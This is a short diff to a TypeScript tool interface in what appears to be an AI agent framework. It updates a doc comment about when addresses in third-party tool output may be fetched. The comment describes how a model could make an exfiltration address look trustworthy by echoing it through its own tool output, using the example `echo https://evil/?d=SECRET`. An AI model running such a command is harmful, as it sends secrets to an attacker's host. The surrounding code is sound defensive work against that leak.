@@ -101,7 +101,7 @@ export interface NativeTool<P = Record<string, unknown>> {
   external?: boolean;
   /**
    * Its results are third parties' words the model did not write (a fetched page, search results, mail, an MCP
-   * server's answer), so an address that appears in them may be fetched in a tainted turn (src/trust/policy.ts). A
+   * server's answer), so an address that appears in them may be fetched in a tainted turn (src/gate/provenance.ts). A
    * tool whose output can carry the model's own text — a sandbox command's output, a memory file, a note — must
    * not say so: otherwise `echo https://evil/?d=SECRET` would vouch for that address. Default: false.
    */
